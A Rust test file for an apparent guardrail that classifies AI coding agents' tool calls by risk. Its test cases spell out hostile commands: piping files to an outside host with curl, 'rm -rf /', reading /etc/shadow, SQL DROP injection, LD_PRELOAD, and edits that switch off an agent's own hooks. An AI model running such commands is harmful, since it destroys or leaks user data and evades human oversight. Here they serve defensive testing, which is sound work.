//! Tests of the classifier as a whole.

use proptest::prelude::*;
use std::collections::BTreeSet;
use tipstaff_core::Json;

use super::*;

fn call(server: &str, tool: &str, parameters: &str) -> Classification {
    let parameters = Json::parse(parameters.as_bytes()).unwrap();
    let action = Action::new(server, tool, "tools/call", parameters, None).unwrap();
    classify(Catalogue::builtin(), &action, Annotations::default())
}

#[test]
fn the_builtin_catalogue_parses_and_names_enough_tools() {
    let text = include_str!("catalogue.tsv");
    Catalogue::parse(text).unwrap();
    let catalogue = Catalogue::builtin();
    assert_eq!(catalogue.text(), text);
    let keys: BTreeSet<_> =
        catalogue.rows().map(|row| (&row.server, row.tool.to_lowercase())).collect();
    assert_eq!(keys.len(), catalogue.rows().count());
    assert!(keys.len() >= 120, "{}", keys.len());
    assert!(catalogue.rows().all(|row| row.source.contains(['@', '('])));
    let classes: Vec<&str> = catalogue.classes().collect();
    assert!(
        classes.is_sorted()
            && classes.contains(&"unclassified")
            && classes.contains(&"shell:opaque")
    );
}

#[test]
fn a_bad_catalogue_is_refused_with_its_line() {
    let row = "fs:read\tT1\tfs\tread\t/path\tplain\tx@1\n";
    assert!(matches!(
        Catalogue::parse(&format!("# c\n{row}{row}")),
        Err(CatalogueError::Duplicate { line: 3 })
    ));
    assert!(matches!(Catalogue::parse("a\tb"), Err(CatalogueError::Columns { line: 1 })));
    for (from, to, name) in
        [("T1", "T6", "tier"), ("plain", "fancy", "kind"), ("/path", "path", "argument pointers")]
    {
        let found = Catalogue::parse(&row.replace(from, to));
        assert!(matches!(found, Err(CatalogueError::Column { line: 1, column }) if column == name));
    }
}

#[test]
fn every_class_that_a_rule_spells_is_listed() {
    let sources = [
        include_str!("shell.rs"),
        include_str!("shell/files.rs"),
        include_str!("shell/forge.rs"),
        include_str!("shell/git.rs"),
        include_str!("shell/inline.rs"),
        include_str!("shell/net.rs"),
        include_str!("shell/packages.rs"),
        include_str!("shell/programs.rs"),
        include_str!("shell/proxy.rs"),
        include_str!("shell/system.rs"),
        include_str!("shell/tools.rs"),
        include_str!("shell/wrap.rs"),
    ];
    let classes: BTreeSet<&str> = Catalogue::builtin().classes().collect();
    let mut seen = 0;
    for piece in sources.iter().flat_map(|source| source.split('"')) {
        let Some((family, name)) = piece.split_once(':') else { continue };
        let word = |text: &str| {
            !text.is_empty()
                && text.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        };
        if word(family) && word(name) && !matches!(piece, "apps:destroy" | "pg:reset") {
            assert!(classes.contains(piece), "{piece}");
            seen += 1;
        }
    }
    assert!(seen > 100);
}

#[test]
fn known_tools_have_their_row() {
    for (server, tool, parameters, class, tier, paths) in [
        ("filesystem", "read_file", r#"{"path":"/a"}"#, "fs:read", 1, &["/a"][..]),
        (
            "server-filesystem",
            "write_file",
            r#"{"path":"a","content":"/etc/x"}"#,
            "fs:write",
            3,
            &["a"],
        ),
        (
            "my-fs",
            "move_file",
            r#"{"source":"a","destination":"http://../b"}"#,
            "fs:write",
            3,
            &["./http://../b", "a"],
        ),
        ("fs", "read_multiple_files", r#"{"paths":["a","b"]}"#, "fs:read", 1, &["a", "b"]),
        ("fs", "read_file", r#"{"file_path":"/etc/shadow"}"#, "fs:read", 1, &["/etc/shadow"]),
        ("fs", "read_file", r#"{"path":"a","file_path":"b"}"#, "fs:read", 1, &["a", "b"]),
        ("git", "git_status", r#"{"repo_path":"/r"}"#, "git:read", 1, &["/r"]),
        ("x", "mcp__github__merge_pull_request", "{}", "repo:merge", 4, &[]),
        ("github", "delete_file", "{}", "repo:delete", 5, &[]),
        ("notes", "write_note", r#"{"name":"n","text":"/x"}"#, "fs:write", 3, &["n"]),
        ("notes", "delete_note", r#"{"name":"n"}"#, "fs:delete", 5, &["n"]),
        ("notes", "list_notes", "{}", "fs:read", 1, &[]),
        ("claude-code", "Read", r#"{"file_path":"/a"}"#, "fs:read", 1, &["/a"]),
        ("claude-code", "Bash", r#"{"command":"rm -rf x"}"#, "fs:delete-recursive", 5, &["x"]),
        ("claude-code", "Edit", r#"{"file_path":"/a","old_string":"/b"}"#, "fs:write", 3, &["/a"]),
        ("claude-code", "Write", r#"{"file_path":"/a","content":"/b"}"#, "fs:write", 3, &["/a"]),
        (
            "claude-code",
            "NotebookEdit",
            r#"{"notebook_path":"/a.ipynb","new_source":"/x"}"#,
            "fs:write",
            3,
            &["/a.ipynb"],
        ),
        (
            "claude-code",
            "Glob",
            r#"{"path":"/a","pattern":"**/.env"}"#,
            "fs:read",
            1,
            &["**/.env", "/a"],
        ),
        ("claude-code", "WebFetch", r#"{"url":"https://x/y","prompt":"p"}"#, "http:get", 1, &[]),
        ("claude-code", "Monitor", r#"{"command":"rm -rf x"}"#, "fs:delete-recursive", 5, &["x"]),
        ("claude-code", "Task", r#"{"prompt":"/x"}"#, "agent:delegate", 2, &[]),
        ("claude-code", "PowerShell", r#"{"command":"ls"}"#, "shell:opaque", 4, &[]),
        (
            "claude-code",
            "Bash",
            r#"{"command":"sudo ~/bin/tipstaff approve 7f3a"}"#,
            "shell:privileged",
            5,
            &["tipstaff:", "~/bin/tipstaff"],
        ),
        (
            "desktop-commander",
            "start_process",
            r#"{"command":"git push -f"}"#,
            "git:push-force",
            5,
            &[],
        ),
        (
            "codex",
            "shell",
            r#"{"command":["bash","-lc","cat a; git status"]}"#,
            "shell:read",
            1,
            &["a"],
        ),
        ("codex", "shell", r#"{"command":["rm","a;b"]}"#, "fs:delete", 5, &["a;b"]),
        (
            "x",
            "run_command",
            r#"{"command":"rm","args":["-rf","/x"]}"#,
            "fs:delete-recursive",
            5,
            &["/x"],
        ),
        ("x", "run_command", r#"{"nothing":1}"#, "shell:opaque", 4, &[]),
        ("x", "bash", r#"{"command":"ls","env":{"LD_PRELOAD":"x"}}"#, "shell:opaque", 4, &[]),
        ("x", "run_command", r#"{"command":"touch a","cwd":"/w"}"#, "fs:write", 3, &["/w", "/w/a"]),
        ("postgres", "query", r#"{"sql":"SELECT 1; DROP TABLE t"}"#, "sql:destroy", 5, &[]),
        ("postgres", "query", r#"{"sql":"SELECT 1"}"#, "sql:read", 1, &[]),
        ("fetch", "fetch", r#"{"url":"https://x/y"}"#, "http:get", 1, &[]),
        (
            "fetch",
            "fetch",
            r#"{"url":"file:///etc/shadow"}"#,
            "http:get",
            1,
            &["file:///etc/shadow"],
        ),
        ("playwright", "browser_file_upload", r#"{"paths":["/a"]}"#, "browser:upload", 4, &["/a"]),
        // A pattern word of two letters is not found inside a longer name.
        ("offset", "read_file", r#"{"path":"/a"}"#, "tool:read", 1, &["/a"]),
    ] {
        let found = call(server, tool, parameters);
        let texts: Vec<&str> = found.paths.iter().map(|path| path.text.as_str()).collect();
        assert_eq!(
            (found.class.as_str(), found.tier.number()),
            (class, tier),
            "{server}/{tool} {parameters}"
        );
        let mut sorted = texts.clone();
        sorted.sort_unstable();
        if !paths.is_empty() {
            assert_eq!(sorted, paths, "{server}/{tool} {parameters}");
        }
    }
}

#[test]
fn unknown_tools_are_judged_by_their_verbs() {
    for (tool, tier) in [
        ("get_weather", 1),
        ("listUsers", 1),
        ("search-things", 1),
        ("getURLInfo", 1),
        ("get_and_delete", 5),
        ("list_then_drop", 5),
        ("getUserDELETE", 5),
        ("listAndPost", 4),
        ("list_merge_requests", 1),
        ("create_user", 4),
        ("create_file", 3),
        ("writeDirectory", 3),
        ("send_mail", 4),
        ("pushThing", 4),
        ("publish-post", 4),
        ("merge_it", 4),
        ("deleteUser", 5),
        ("drop_table", 5),
        ("destroy", 5),
        ("purge-cache", 5),
        ("grant_role", 5),
        ("getter", 3),
        ("settle", 3),
        ("frobnicate", 3),
        ("listen", 3),
        ("get_shell_exec", 3),
        ("frobnicate_and_delete", 5),
    ] {
        let found = call("someone", tool, "{}");
        assert_eq!(found.tier.number(), tier, "{tool}");
        assert_eq!(found.basis == Basis::Unclassified, found.class == UNCLASSIFIED, "{tool}");
    }
    assert_eq!(call("someone", "frobnicate", r#"{"a":"~/x","b":"y"}"#).paths.len(), 1);
    assert_eq!(call("someone", "frobnicate", "{}").basis, Basis::Unclassified);
}

#[test]
fn protocol_operations_have_rows_of_their_own() {
    for (operation, class, tier) in [
        ("resources/read", "mcp:resource-read", 1),
        ("resources/subscribe", "mcp:subscribe", 2),
        ("prompts/get", "mcp:prompt", 1),
        ("sampling/createMessage", "mcp:sample", 2),
        ("tasks/cancel", "mcp:task-cancel", 2),
        ("something/else", "unclassified", 3),
        ("Bash", "unclassified", 3),
    ] {
        let action =
            Action::new("s", "read_file", operation, Json::Null, Some("file:///a")).unwrap();
        let found = classify(Catalogue::builtin(), &action, Annotations::default());
        assert_eq!((found.class.as_str(), found.tier.number()), (class, tier), "{operation}");
        assert_eq!(found.paths, [PathUse { pointer: "resource".into(), text: "file:///a".into() }]);
    }
    assert_eq!(call("s", "resources/read", "{}").class, UNCLASSIFIED);
}

#[test]
fn annotations_raise() {
    let tier = |tool: &str, annotations| {
        let action = Action::new("s", tool, "tools/call", Json::Null, None).unwrap();
        classify(Catalogue::builtin(), &action, annotations).tier.number()
    };
    let none = Annotations::default();
    assert_eq!(tier("get_x", none), 1);
    assert_eq!(tier("get_x", Annotations { read_only: Hint::No, ..none }), 3);
    assert_eq!(
        tier("get_x", Annotations { destructive: Hint::Yes, read_only: Hint::Yes, ..none }),
        4
    );
    assert_eq!(tier("get_x", Annotations { open_world: Hint::Yes, ..none }), 4);
    assert_eq!(
        tier("get_x", Annotations { open_world: Hint::Yes, read_only: Hint::Yes, ..none }),
        1
    );
    assert_eq!(
        tier(
            "delete_x",
            Annotations { read_only: Hint::Yes, destructive: Hint::No, open_world: Hint::No }
        ),
        5
    );
    let destructive = Annotations { destructive: Hint::Yes, ..none };
    let known = |tool: &str| {
        let action = Action::new("filesystem", tool, "tools/call", Json::Null, None).unwrap();
        classify(Catalogue::builtin(), &action, destructive).tier.number()
    };
    assert_eq!((known("read_file"), known("write_file")), (3, 3));
}

fn hint() -> impl Strategy<Value = Hint> {
    prop_oneof![Just(Hint::Yes), Just(Hint::No), Just(Hint::Unknown)]
}

fn tool_name() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{1,40}",
        "(get|list|delete|create|send|and)([_-](get|then|drop|file|x)){0,3}",
        Just("Bash".to_owned()),
        Just("write_file".to_owned()),
        Just("execute_sql".to_owned()),
    ]
}

proptest! {
    #[test]
    fn nothing_panics_and_annotations_never_lower(
        server in "[a-z-]{1,12}",
        tool in tool_name(),
        value in "\\PC*|[ -~\\n]{0,80}|[;&|<>$(){}'\"`\\\\ a-z#*\\n-]{0,60}",
        name in "path|command|query|sql|url|x",
        read_only in hint(),
        destructive in hint(),
        open_world in hint(),
    ) {
        let parameters = Json::object(vec![(name, Json::String(value))]).unwrap();
        if let Ok(action) = Action::new(&server, &tool, "tools/call", parameters, None) {
            let catalogue = Catalogue::builtin();
            let plain = classify(catalogue, &action, Annotations::default());
            let raised = classify(catalogue, &action, Annotations { read_only, destructive, open_world });
            prop_assert!(raised.tier >= plain.tier);
            prop_assert_eq!(&raised.class, &plain.class);
            prop_assert!(catalogue.classes().any(|class| class == plain.class));
            prop_assert_eq!(&plain, &classify(catalogue, &action, Annotations::default()));
        }
    }
}

#[test]
fn what_runs_the_hook_is_not_for_the_agent_to_change() {
    let is_own = |tool: &str, parameters: &str| {
        let found = call("claude-code", tool, parameters);
        found.paths.iter().any(|path| path.text == OWN_HOME)
    };
    for (tool, parameters) in [
        ("Write", r#"{"file_path":"/p/.claude/settings.local.json","content":"{}"}"#),
        ("Edit", r#"{"file_path":"/home/u/.claude/settings.json"}"#),
        ("Edit", r#"{"file_path":"/p/x/../.claude/./Settings.json"}"#),
        (
            "Bash",
            r#"{"command":"echo '{\"disableAllHooks\":true}' > .claude/settings.local.json"}"#,
        ),
        ("Bash", r#"{"command":"cd .claude && cp /tmp/x settings.json"}"#),
        ("Bash", r#"{"command":"sed -i s/hook/x/ ~/.claude/settings.json"}"#),
        ("Bash", r#"{"command":"mv /tmp/x .claude"}"#),
        ("Bash", r#"{"command":"rm .claude/*"}"#),
        ("Bash", r#"{"command":"ln -s .claude/settings.json a"}"#),
        ("Bash", r#"{"command":"sed -i s/hook/x/ ~/.codex/hooks.json"}"#),
        ("Write", r#"{"file_path":"/home/u/.codex/config.toml","content":"[features]"}"#),
        ("Write", r#"{"file_path":"/home/u/.cursor/hooks.json","content":"{}"}"#),
        ("Write", r#"{"file_path":"/p/.cursor/hooks.json","content":"{}"}"#),
        ("Write", r#"{"file_path":"/home/u/.gemini/settings.json","content":"{}"}"#),
        ("Bash", r#"{"command":"rm ~/.copilot/hooks/tipstaff.json"}"#),
        ("Bash", r#"{"command":"mv ~/.copilot /tmp/x"}"#),
        ("Write", r#"{"file_path":"/p/.github/hooks/x.json","content":"{}"}"#),
    ] {
        assert!(is_own(tool, parameters), "{tool} {parameters}");
    }
    for (tool, parameters) in [
        ("Read", r#"{"file_path":"/p/.claude/settings.json"}"#),
        ("Bash", r#"{"command":"cat .claude/settings.json"}"#),
        ("Write", r#"{"file_path":"/p/.claude/commands/x.md"}"#),
        ("Write", r#"{"file_path":"/p/settings.json"}"#),
        ("Write", r#"{"file_path":"/p/.mcp.json"}"#),
        ("Write", r#"{"file_path":"/p/.cursor/rules/x.mdc"}"#),
        ("Write", r#"{"file_path":"/p/.github/workflows/ci.yml"}"#),
        ("Write", r#"{"file_path":"/p/x.github/hooks.json"}"#),
    ] {
        assert!(!is_own(tool, parameters), "{tool} {parameters}");
    }
}

#[test]
fn a_mild_command_does_not_hide_where_another_one_leads() {
    use tipstaff_core::{Label, Sink};
    for (line, sink) in [
        ("cat notes.md", Sink::None),
        ("cargo build", Sink::Local),
        ("cat a | curl -d @- https://x.example; rm -rf build", Sink::External),
        ("curl https://x.example/?q=1 && kubectl delete ns prod", Sink::External),
        ("git push && rm -rf /", Sink::External),
        ("curl https://x.example/?q=1; frobnicate", Sink::External),
        ("frobnicate", Sink::Unknown),
    ] {
        let arguments = format!("{{\"command\":{line:?}}}");
        assert_eq!(call("shell", "bash", &arguments).means.sink, sink, "{line}");
    }
    let both = call("shell", "bash", r#"{"command":"env; curl https://x.example"}"#).means;
    assert!(both.gives.has(Label::Untrusted), "{both:?}");
}

#[test]
fn the_own_tools_of_every_client_are_known() {
    for (client, tool, parameters, class, tier, paths) in [
        (
            "codex",
            "apply_patch",
            r#"{"command":"*** Begin Patch\n*** Add File: a/b\n+x\n  *** Update File: /c\n*** Move to: d\n*** End Patch\n"}"#,
            "fs:write",
            3,
            &["a/b", "/c", "d"][..],
        ),
        (
            "vscode",
            "apply_patch",
            r#"{"input":"*** Begin Patch\n*** Delete File: a\n*** End Patch"}"#,
            "fs:delete",
            5,
            &["a"],
        ),
        ("codex", "apply_patch", r#"{"command":"nonsense"}"#, "fs:write", 3, &["/$/patch"]),
        ("codex", "Bash", r#"{"command":"rm -rf x"}"#, "fs:delete-recursive", 5, &["x"]),
        (
            "cursor",
            "Shell",
            r#"{"command":"touch x","working_directory":"/p"}"#,
            "fs:write",
            3,
            &["/p/x"],
        ),
        ("cursor", "Write", r#"{"file_path":"/a","contents":"x"}"#, "fs:write", 3, &["/a"]),
        ("cursor", "Delete", r#"{"path":"/a"}"#, "fs:delete", 5, &["/a"]),
        ("vscode", "create_file", r#"{"filePath":"/a","content":"/b"}"#, "fs:write", 3, &["/a"]),
        ("vscode", "run_in_terminal", r#"{"command":"ls","explanation":"e"}"#, "fs:read", 1, &[]),
        ("vscode", "run_vscode_command", r#"{"commandId":"x"}"#, "shell:opaque", 4, &[]),
        (
            "gemini",
            "run_shell_command",
            r#"{"command":"touch x","dir_path":"sub"}"#,
            "fs:write",
            3,
            &["sub/x"],
        ),
        ("gemini", "replace", r#"{"file_path":"/a","old_string":"/b"}"#, "fs:write", 3, &["/a"]),
        ("gemini", "web_fetch", r#"{"prompt":"read https://x"}"#, "http:get", 1, &[]),
    ] {
        let found = call(client, tool, parameters);
        let named: Vec<&str> = found.paths.iter().map(|path| path.text.as_str()).collect();
        let said = (found.class.as_str(), found.tier.number());
        assert_eq!(said, (class, tier), "{client} {tool} {parameters}");
        assert!(paths.iter().all(|path| named.contains(path)), "{client} {tool}: {named:?}");
    }
}
